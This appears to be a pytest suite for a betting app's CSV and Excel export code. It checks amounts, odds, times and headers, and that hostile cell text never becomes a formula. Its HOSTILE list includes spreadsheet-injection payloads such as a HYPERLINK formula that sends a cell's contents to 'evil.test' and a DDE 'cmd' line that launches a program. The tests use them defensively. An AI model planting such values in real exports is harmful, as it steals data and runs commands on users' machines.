"""What stands in an exported file is what was in the ledger, to the digit and to the letter, and nothing of it runs."""

import csv
import zipfile
from datetime import UTC, datetime, timedelta, timezone
from decimal import Decimal
from io import BytesIO, StringIO
from typing import Any

import pytest
from hypothesis import given
from hypothesis import strategies as st
from openpyxl import load_workbook

from csv_plans import plan_of_csv
from toteboard.rules.money import CURRENCIES, format_minor
from toteboard.spreadsheets.sheets import CURRENCY, SHEETS, Column, Kind, Sheet
from toteboard.spreadsheets.writing import BOM, XLSX_ROWS_MAX, XLSX_TEXT_MAX, CsvWriter, XlsxWriter, writer
from toteboard.words import label

SHEET = Sheet(
    "all",
    (
        Column("name"),
        Column("amount", Kind.AMOUNT),
        CURRENCY,
        Column("odds", Kind.ODDS),
        Column("bets", Kind.WHOLE),
        Column("at", Kind.TIME),
    ),
)
HOSTILE = (
    "=1+1",
    '=HYPERLINK("http://evil.test?"&A1,"Prize")',
    "+49 30 1234",
    "-2+3+cmd|' /C calc'!A0",
    "@SUM(A1:A9)",
    "\t=1",
    "\r=1",
    "#N/A",
    "'quoted",
    "'=quoted before",
    'Dwayne "The Rock"',
    "a, b; c",
    "two\nlines",
    "  blanks  ",
    "مباراة القمة",
    "Żółć 🐎👩‍👩‍👧",
    "<b>&amp;</b>",
    "1.50",
    "TRUE",
)


def row(name: str | None = "Ada", amount: int | None = 1250, **more: Any) -> dict[str, Any]:
    return {"name": name, "amount": amount, "odds": 2280, "bets": 7, "at": None} | more


def as_csv(*rows: dict[str, Any], currency: str = "EUR", sheet: Sheet = SHEET) -> list[list[str]]:
    made = CsvWriter(sheet, currency)
    text = (made.head() + made.add(rows)).decode()
    assert text.startswith(BOM)
    return list(csv.reader(StringIO(text.removeprefix(BOM), newline="")))


def as_xlsx(*rows: dict[str, Any], currency: str = "EUR") -> Any:
    """The worksheet, read again; what it was read from stands in `file`."""
    made = XlsxWriter(SHEET, currency)
    made.add(rows)
    with made.end() as file:
        content = file.read()
    sheet = load_workbook(BytesIO(content)).active
    return sheet, content


def exactly(number: Any, exponent: int) -> Decimal:
    """What a double shows: the shortest decimal that is it."""
    return Decimal(repr(number)).quantize(Decimal(1).scaleb(-exponent))


@pytest.mark.parametrize(
    ("currency", "amount", "text"),
    [
        ("EUR", 0, "0.00"),
        ("EUR", 5, "0.05"),
        ("EUR", -125_000, "-1250.00"),
        ("JPY", 125_000, "125000"),
        ("JPY", -7, "-7"),
        ("KWD", 1, "0.001"),
        ("KWD", 10**11, "100000000.000"),
        ("EUR", 10**15 - 1, "9999999999999.99"),
    ],
)
def test_an_amount_is_the_decimal_of_its_currency_and_a_negative_one_stays_a_number(
    currency: str, amount: int, text: str
) -> None:
    assert as_csv(row(amount=amount), currency=currency)[1][1:3] == [text, currency]
    sheet, _ = as_xlsx(row(amount=amount), currency=currency)
    cell, exponent = sheet["B2"], CURRENCIES[currency].exponent
    assert cell.data_type == "n"
    assert exactly(cell.value, exponent) == Decimal(text)
    assert cell.number_format == {0: "0", 2: "0.00", 3: "0.000"}[exponent]


@given(st.integers(-(10**15) + 1, 10**15 - 1), st.sampled_from(["EUR", "JPY", "KWD"]))
def test_every_amount_that_is_a_number_in_a_workbook_is_exactly_that_amount(amount: int, currency: str) -> None:
    exponent = CURRENCIES[currency].exponent
    # As openpyxl writes a number into the file, and as a spreadsheet reads it: a double.
    written = f"{float(Decimal(amount).scaleb(-exponent)):.16g}"
    assert exactly(float(written), exponent) == Decimal(format_minor(amount, currency))


@pytest.mark.parametrize("amount", [10**15, -(10**15), 2**63 - 1])
def test_an_amount_too_long_for_a_number_is_text_with_every_digit(amount: int) -> None:
    sheet, _ = as_xlsx(row(amount=amount))
    assert (sheet["B2"].data_type, sheet["B2"].value) == ("s", format_minor(amount, "EUR"))
    assert as_csv(row(amount=amount))[1][1] == format_minor(amount, "EUR")


@pytest.mark.parametrize("text", HOSTILE)
def test_text_in_a_workbook_is_a_string_and_never_a_formula(text: str) -> None:
    sheet, content = as_xlsx(row(text))
    # XML has no bare carriage return: a reader makes a line feed of it.
    assert (sheet["A2"].data_type, sheet["A2"].value) == ("s", text.replace("\r", "\n"))
    assert sheet["A2"].quotePrefix == text.startswith(("=", "+", "-", "@", "\t", "\r"))
    with zipfile.ZipFile(BytesIO(content)) as parts:
        (xml,) = [parts.read(name).decode() for name in parts.namelist() if "worksheets/" in name]
    assert "<f>" not in xml
    assert "<f " not in xml


@pytest.mark.parametrize("text", HOSTILE)
def test_text_in_a_csv_begins_no_formula_and_comes_back_without_its_apostrophe(text: str) -> None:
    cell = as_csv(row(text))[1][0]
    assert not cell.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert cell == text or cell == "'" + text


@pytest.mark.parametrize(
    # An error of a spreadsheet is no name: the importer refuses it.
    "name",
    [name for name in HOSTILE if name.isprintable() and name == name.strip() and name != "#N/A"],
)
def test_a_name_comes_back_by_the_importers_reader_as_it_was(name: str) -> None:
    match = {"match": name, "round": name, "starts_at": None, "odds_milli": None}
    made = CsvWriter(SHEETS["matches"], "EUR")
    content = made.head() + made.add([match | {"outcome": name}, match | {"outcome": "Draw"}])
    (read,) = plan_of_csv(content, name="Again").matches
    assert (read.name, read.round) == (name, name)
    assert read.markets[0].outcomes == ((name, None), ("Draw", None))


def test_a_time_is_in_utc_and_nothing_is_an_empty_cell() -> None:
    at = datetime(2026, 6, 11, 21, 0, 0, 123_000, tzinfo=timezone(timedelta(hours=2)))
    rows = (row(at=at), row(None, None, odds=None, bets=None))
    assert [cells[5] for cells in as_csv(*rows)] == ["at", "2026-06-11T19:00:00.123000Z", ""]
    assert as_csv(*rows)[2] == ["", "", "EUR", "", "", ""]
    sheet, _ = as_xlsx(*rows)
    assert sheet["F2"].value == at.astimezone(UTC).replace(tzinfo=None)
    assert [sheet[f"{column}3"].value for column in "ABDEF"] == [None] * 5


def test_odds_are_decimals_with_three_places_only_where_there_are_three() -> None:
    assert [cells[3] for cells in as_csv(row(odds=2280), row(odds=1875))] == ["odds", "2.28", "1.875"]
    sheet, _ = as_xlsx(row(odds=1875))
    assert (sheet["D2"].value, sheet["D2"].number_format) == (1.875, "0.00#")


def test_the_names_of_the_columns_stand_first_and_stay_in_sight() -> None:
    sheet, _ = as_xlsx(row())
    assert as_csv(row())[0] == [column.name for column in SHEET.columns], "programs have the API's names"
    assert [cell.value for cell in sheet[1]] == [label(column.name) for column in SHEET.columns], "people have words"
    assert sheet.freeze_panes == "A2"
    assert sheet["A1"].font.bold


def test_what_a_workbook_cannot_hold_is_replaced_or_cut_and_never_breaks_it() -> None:
    sheet, _ = as_xlsx(row("a\x00b\x1b\ufffe"), row("x" * (XLSX_TEXT_MAX + 5)))
    assert sheet["A2"].value == "a\ufffdb\ufffd\ufffd"
    assert (len(sheet["A3"].value), sheet["A3"].value[-1]) == (XLSX_TEXT_MAX, "…")
    assert XLSX_ROWS_MAX + 1 == 2**20


def test_a_workbook_that_nobody_wants_leaves_no_file_behind(tmp_path: Any, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr("tempfile.tempdir", str(tmp_path))
    for ends in (False, True):
        made = writer(SHEET, "xlsx", currency="EUR")
        made.add([row()])
        if ends:
            file = made.end()
            assert file is not None
            file.close()
        made.abandon()
        assert list(tmp_path.iterdir()) == []
